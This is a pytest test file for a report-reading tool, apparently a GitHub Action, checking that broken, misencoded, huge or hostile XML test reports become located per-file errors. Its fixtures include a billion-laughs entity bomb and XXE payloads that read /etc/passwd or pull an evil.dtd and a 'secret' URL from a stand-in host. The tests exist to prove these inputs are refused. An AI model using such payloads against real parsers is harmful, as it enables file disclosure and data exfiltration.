"""Hostile and broken input: every bad file becomes a located per-file problem, the other files are
still read, nothing escapes as a traceback, and nothing bad gets in (entities, huge fields)."""

from __future__ import annotations

import io
import json
import resource
from pathlib import Path

import pytest
from tmsaction.__main__ import main
from tmsaction.model import OUTPUT_LIMIT, Outcome, ReportSet
from tmsaction.reports.collect import read_reports

GOOD = b"<testsuite name='s'><testcase classname='c' name='good' time='1'/></testsuite>"


def read(tmp_path: Path, files: dict[str, bytes]) -> ReportSet:
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    return read_reports(tmp_path, ["*"])


def only_problem(reports: ReportSet, source: str) -> tuple[str, int | None, int | None, str]:
    (problem,) = [p for p in reports.problems if p.source == source]
    return problem.severity, problem.line, problem.column, problem.message


def test_each_broken_file_is_its_own_problem_and_the_good_one_is_read(tmp_path: Path) -> None:
    reports = read(
        tmp_path,
        {
            "good.xml": GOOD,
            "malformed.xml": b"<testsuite>\n  <testcase name='a'>\n  </testsuite>",
            "truncated.xml": b"<testsuite>\n<testcase name='kept'/>\n<testcase name='lo",
            "empty.xml": b"",
            "blank.xml": b"  \n\t\n",
            "binary.xml": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00" * 10,
            "html.xml": b"<!DOCTYPE html><html><body>404</body></html>",
            "unknown.xml": b"<coverage line-rate='0.9'/>",
        },
    )
    assert [r.name for r in reports.results] == ["good", "kept"]
    assert {f.source for f in reports.files} == {"good.xml", "truncated.xml"}
    severity, line, column, message = only_problem(reports, "malformed.xml")
    assert (severity, line, column) == ("error", 3, 5)
    assert message == "not well-formed XML: mismatched tag"
    severity, line, column, message = only_problem(reports, "truncated.xml")
    assert (severity, line) == ("error", 3)
    assert "not well-formed XML" in message
    assert "the test before it was kept" in message
    assert "empty" in only_problem(reports, "empty.xml")[3]
    assert "empty" in only_problem(reports, "blank.xml")[3]
    assert "binary" in only_problem(reports, "binary.xml")[3]
    for name in ("html.xml", "unknown.xml"):
        message = only_problem(reports, name)[3]
        assert message.startswith("not a test report format tmsaction reads (supported: JUnit")
        assert "Visual Studio TRX" in message


@pytest.mark.parametrize(
    "data",
    [
        b"\xef\xbb\xbf" + GOOD,
        GOOD.decode().encode("utf-16"),  # BOM
        ('<?xml version="1.0" encoding="UTF-16BE"?>' + GOOD.decode()).encode("utf-16-be"),
        ('<?xml version="1.0" encoding="windows-1252"?>' + GOOD.decode()).encode("cp1252"),
        b"\n\n  <!-- generated -->\n<?xml-stylesheet href='x'?>" + GOOD,
    ],
    ids=["utf8-bom", "utf16-bom", "utf16be-declared", "cp1252", "comment-before-root"],
)
def test_encodings_and_prologs_are_read(tmp_path: Path, data: bytes) -> None:
    reports = read(tmp_path, {"r.xml": data})
    assert [r.name for r in reports.results] == ["good"]
    assert not reports.problems


def test_invalid_utf8_and_control_characters_are_repaired_with_located_warnings(
    tmp_path: Path,
) -> None:
    data = (
        b"<testsuite>\n<testcase name='caf\xe9'>\n<failure message='bad'>out\x00put\x1b[31m red"
        b"</failure></testcase>\n</testsuite>"
    )
    reports = read(tmp_path, {"r.xml": data})
    (result,) = reports.results
    assert result.name == "caf\ufffd"
    assert result.details == "out\ufffdput red"
    problems = sorted((p.line, p.column, p.severity, p.message[:20]) for p in reports.problems)
    assert problems == [
        (2, 20, "warning", "invalid UTF-8 bytes "),
        (3, 27, "warning", "characters XML 1.0 f"),
    ]


def test_entity_expansion_bomb_is_refused_without_expanding(tmp_path: Path) -> None:
    bomb = '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY l0 "lol">\n'
    for level in range(1, 10):
        bomb += f' <!ENTITY l{level} "' + f"&l{level - 1};" * 10 + '">\n'
    bomb += ']>\n<testsuite name="&l9;"><testcase name="&l9;"/></testsuite>'
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    reports = read(tmp_path, {"bomb.xml": bomb.encode(), "good.xml": GOOD})
    severity, line, _, message = only_problem(reports, "bomb.xml")
    assert (severity, line) == ("error", 3)
    assert "declares entities" in message
    assert [r.name for r in reports.results] == ["good"]
    # 10^9 "lol"s would be gigabytes; nothing was expanded.
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE t [<!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd"> %remote;]>',
        '<!DOCTYPE t [<!ENTITY xxe SYSTEM "http://203.0.113.9/secret">]>',
    ],
    ids=["xxe-file", "parameter-entity", "xxe-http"],
)
def test_external_entities_are_never_resolved(tmp_path: Path, doctype: str) -> None:
    data = f'<?xml version="1.0"?>\n{doctype}\n<testsuite><testcase name="&xxe;"/></testsuite>'
    reports = read(tmp_path, {"xxe.xml": data.encode()})
    assert not reports.results
    severity, _, _, message = only_problem(reports, "xxe.xml")
    assert severity == "error"
    assert "entities" in message
    assert "root:" not in json.dumps([p.message for p in reports.problems])


def test_an_external_dtd_is_not_fetched(tmp_path: Path) -> None:
    """The network guard (tests/conftest.py) fails any connection: reading must not try one."""
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE testsuite SYSTEM "http://203.0.113.9/junit.dtd">\n'
        b"<testsuite><testcase name='a'/></testsuite>"
    )
    reports = read(tmp_path, {"dtd.xml": data})
    assert [r.name for r in reports.results] == ["a"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("nunit.xml", b"<test-run><test-suite type='Assembly' name='a.dll'><test-case name='x'"),
        ("trx.trx", b"<TestRun xmlns='http://microsoft.com/schemas/VisualStudio/TeamTest/2010'>"),
        ("robot.xml", b"<robot generator='Robot 7.0'><suite name='S'><test name='t'><status"),
        ("testng.xml", b"<testng-results><suite name='s'><test name='t'><class name='c'>"),
        ("xunit.xml", b"<assemblies><assembly name='a.dll'><collection><test name='t' "),
        ("catch2.xml", b"<Catch name='c'><Group name='g'><TestCase name='t'>"),
        ("ctest.xml", b"<Site><Testing><Test Status='passed'><Name>t</Name>"),
    ],
)
def test_truncated_files_of_every_format_are_located_problems(
    tmp_path: Path, name: str, data: bytes
) -> None:
    reports = read(tmp_path, {name: data})
    severity, line, column, message = only_problem(reports, name)
    assert severity == "error"
    assert line == 1
    assert column is not None
    assert "truncated" in message or "not well-formed" in message


def test_huge_output_is_bounded_and_keeps_head_and_tail(tmp_path: Path) -> None:
    noise = "x" * (5 * 1024 * 1024)
    data = (
        "<testsuite><testcase name='loud'><failure message='boom'>"
        f"FIRST LINE\n{noise}\nLAST LINE</failure><system-out>start {noise} end</system-out>"
        f"</testcase><testcase name='quiet' classname='c' time='1'/></testsuite>"
    ).encode()
    reports = read(tmp_path, {"r.xml": data})
    loud, quiet = reports.results
    assert loud.detail is not None
    assert loud.detail.stdout is not None
    assert loud.details is not None
    for text in (loud.details, loud.detail.stdout):
        assert len(text) <= OUTPUT_LIMIT
        assert "characters cut" in text
    assert loud.details.startswith("FIRST LINE")
    assert loud.details.endswith("LAST LINE")
    assert loud.detail.stdout.startswith("start")
    assert loud.detail.stdout.endswith("end")
    assert quiet.outcome is Outcome.PASSED


def test_suites_nested_thousands_deep_and_odd_times_are_read(tmp_path: Path) -> None:
    depth = 3000
    data = (
        "<testsuites>"
        + "<testsuite name='s'>" * depth
        + "<testcase name='deep' time='1,5'/><testcase name='exp' time='2e-3'/>"
        + "<testcase name='nan' time='NaN'/><testcase name='neg' time='-1'/>"
        + "<testcase name='none'/><testcase name='text' time='fast'/>"
        + "</testsuite>" * depth
        + "</testsuites>"
    ).encode()
    reports = read(tmp_path, {"r.xml": data})
    assert [(r.name, r.duration) for r in reports.results] == [
        ("deep", 1.5),
        ("exp", 0.002),
        ("nan", None),
        ("neg", None),
        ("none", None),
        ("text", None),
    ]
    assert len(reports.results[0].suite) == depth


def test_a_broken_report_becomes_a_workflow_warning_with_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "good.xml").write_bytes(GOOD)
    (tmp_path / "broken.xml").write_bytes(b"<testsuite>\n<testcase name='a'>\n</testsuite>")
    out = io.StringIO()
    env = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_WORKSPACE": str(tmp_path),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GITHUB_OUTPUT": str(tmp_path / "out.txt"),
        "INPUT_REPORTS": "*.xml",
        "INPUT_DRY_RUN": "true",
    }
    assert main([], env, stdout=out) == 0
    log = out.getvalue()
    assert "::warning title=Test report problem,file=broken.xml,line=3::" in log
    assert "not well-formed XML: mismatched tag" in log
